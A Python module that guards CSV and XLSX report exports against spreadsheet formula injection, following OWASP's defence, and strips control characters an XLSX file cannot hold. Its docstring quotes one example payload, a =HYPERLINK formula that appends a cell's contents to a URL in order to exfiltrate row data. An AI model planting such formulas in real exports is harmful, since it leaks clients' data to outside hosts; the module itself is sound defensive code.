"""CSV cells a spreadsheet will not run.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula: ``=HYPERLINK("http://…?"&A1, "Click")``
in a client's name would send the row elsewhere when a biller opens the export. OWASP's "CSV
Injection" page (owasp.org/www-community/attacks/CSV_Injection) gives the defence used
here: prefix such a cell with a single quote, and quote every cell, escaping embedded
double quotes (``csv.QUOTE_ALL``). Numbers stay numbers: only text is touched.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Mapping
from typing import Any, Final, Literal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTING: Final[Literal[1]] = csv.QUOTE_ALL


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it and never evaluates it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {name: safe_cell(value) for name, value in row.items()}


# Characters an XLSX cell cannot hold (XML 1.0 allows tab, line feed and carriage return
# among the C0 controls, nothing else: https://www.w3.org/TR/xml/#charsets); openpyxl refuses
# a whole workbook over one of them (IllegalCharacterError), so a name typed with one would
# make every report export fail.
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def sheet_cell(value: Any) -> Any:
    """``value`` as a workbook cell: never a formula (as ``safe_cell``), no control
    characters an XLSX file cannot hold."""
    if isinstance(value, str):
        return safe_cell(_NOT_IN_XML.sub("", value))
    return value
